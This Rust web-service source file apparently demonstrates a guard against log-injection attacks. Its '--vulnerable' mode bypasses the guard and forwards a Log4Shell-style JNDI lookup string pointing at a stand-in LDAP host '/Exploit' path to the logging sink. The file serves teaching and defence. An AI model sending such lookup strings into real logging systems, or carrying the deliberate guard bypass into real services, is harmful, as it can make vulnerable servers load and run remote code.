//! Instructional web service with a guarded logging sink
//!
//! Two modes:
//! - guarded (default): every `/log` request passes through `InputGuard`
//!   before its input may reach the sink at error level;
//! - `--vulnerable`: the guard is bypassed and a fixed lookup probe is
//!   forwarded to the sink on every request, demonstrating what an
//!   expression-evaluating backend would be handed.

use anyhow::Result;
use axum::{
    extract::{Query, State},
    routing::get,
    Json, Router,
};
use clap::Parser;
use logshield_guard::prelude::*;
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use tower_http::cors::CorsLayer;
use tracing::{error, info, warn};

/// Fixed probe forwarded in vulnerable mode. Harmless under a plain-text
/// sink; an expression-evaluating backend would dereference it.
const LOOKUP_PROBE: &str = "${jndi:ldap://ldap:1389/Exploit}";

/// Demonstration server arguments
#[derive(Parser, Debug)]
#[command(name = "logshield-web")]
#[command(about = "Guarded logging demonstration service")]
struct Args {
    /// Port to listen on
    #[arg(short, long, default_value = "8080")]
    port: u16,

    /// Address to bind
    #[arg(long, default_value = "0.0.0.0")]
    bind: String,

    /// JSON-lines audit trail path
    #[arg(long)]
    audit_log: Option<String>,

    /// Bypass the guard and forward a fixed lookup probe on every /log
    /// request. Demonstration only.
    #[arg(long)]
    vulnerable: bool,
}

#[derive(Clone)]
struct AppState {
    guard: Arc<InputGuard>,
    sink: Arc<dyn LogSink>,
    vulnerable: bool,
}

// ─────────────────────────────────────────────────────────────────────────────
// API Types
// ─────────────────────────────────────────────────────────────────────────────

#[derive(Deserialize)]
struct LogParams {
    input: Option<String>,
}

#[derive(Serialize)]
struct HealthResponse {
    status: String,
    mode: String,
}

fn mode_name(vulnerable: bool) -> &'static str {
    if vulnerable {
        "vulnerable"
    } else {
        "guarded"
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Handlers
// ─────────────────────────────────────────────────────────────────────────────

async fn health_handler(State(state): State<AppState>) -> Json<HealthResponse> {
    Json(HealthResponse {
        status: "ok".to_string(),
        mode: mode_name(state.vulnerable).to_string(),
    })
}

async fn log_handler(State(state): State<AppState>, Query(params): Query<LogParams>) -> String {
    let input = params.input.as_deref();

    if state.vulnerable {
        // Unguarded path: the probe goes straight to the sink at error
        // level, whatever the request carried.
        if let Err(fault) = state.sink.error(FORWARD_TEMPLATE, LOOKUP_PROBE) {
            error!(error = %fault, "log sink fault, entry dropped");
        }
        return format!("{}{}", LOGGED_PREFIX, input.unwrap_or_default());
    }

    state.guard.screen(input).response
}

fn router(state: AppState) -> Router {
    Router::new()
        .route("/", get(health_handler))
        .route("/health", get(health_handler))
        .route("/log", get(log_handler))
        .layer(CorsLayer::permissive())
        .with_state(state)
}

// ─────────────────────────────────────────────────────────────────────────────
// Main
// ─────────────────────────────────────────────────────────────────────────────

#[tokio::main]
async fn main() -> Result<()> {
    // Initialize logging
    tracing_subscriber::fmt()
        .with_env_filter(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| "info".into()),
        )
        .init();

    let args = Args::parse();

    let config = GuardConfig {
        audit: AuditConfig {
            log_file: args.audit_log.clone(),
            ..Default::default()
        },
        ..Default::default()
    };

    let sink: Arc<dyn LogSink> = Arc::new(TracingSink);
    let state = AppState {
        guard: Arc::new(InputGuard::new(config, sink.clone())),
        sink,
        vulnerable: args.vulnerable,
    };

    if args.vulnerable {
        warn!("vulnerable mode enabled: /log forwards a fixed lookup probe past the guard");
    }

    println!(
        "logshield-web v{} | GET http://{}:{}/log?input=<text> | mode: {}",
        env!("CARGO_PKG_VERSION"),
        args.bind,
        args.port,
        mode_name(args.vulnerable),
    );

    let listener = tokio::net::TcpListener::bind(format!("{}:{}", args.bind, args.port)).await?;
    info!(port = args.port, mode = mode_name(args.vulnerable), "server listening");

    axum::serve(listener, router(state)).await?;

    Ok(())
}
